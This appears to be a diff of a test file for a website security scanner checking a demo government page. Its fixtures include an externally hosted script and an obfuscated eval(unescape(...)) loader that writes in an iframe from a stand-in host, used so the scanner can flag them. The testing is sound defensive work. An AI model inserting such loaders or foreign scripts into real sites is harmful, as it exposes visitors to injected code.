@@ -44,7 +44,7 @@ def test_hidden_external_links_are_found():
 def test_foreign_script_and_obfuscated_loader():
     ext = page("<p>演示市人民政府</p><script src='http://js.tongji-cdn.com/7.js'></script>")
     f = sec(ext)
-    assert f.status == "deduct" and "tongji-cdn.com" in f.evidence[0]["detail"]
+    assert f.status == "deduct" and "tongji-cdn.com" in f.evidence[0]["detail"] and "脚本" in f.evidence[0]["detail"]
     loader = ('<script>eval(unescape("%64%6f%63%75%6d%65%6e%74%2e%77%72%69%74%65%28%27%3c%69%66%72%61%6d%65%20'
               '%73%72%63%3d%68%74%74%70%3a%2f%2f%78%2e%63%6f%6d%3e%27%29"));</script>')
     f = sec(page("<p>演示市人民政府</p>" + loader))
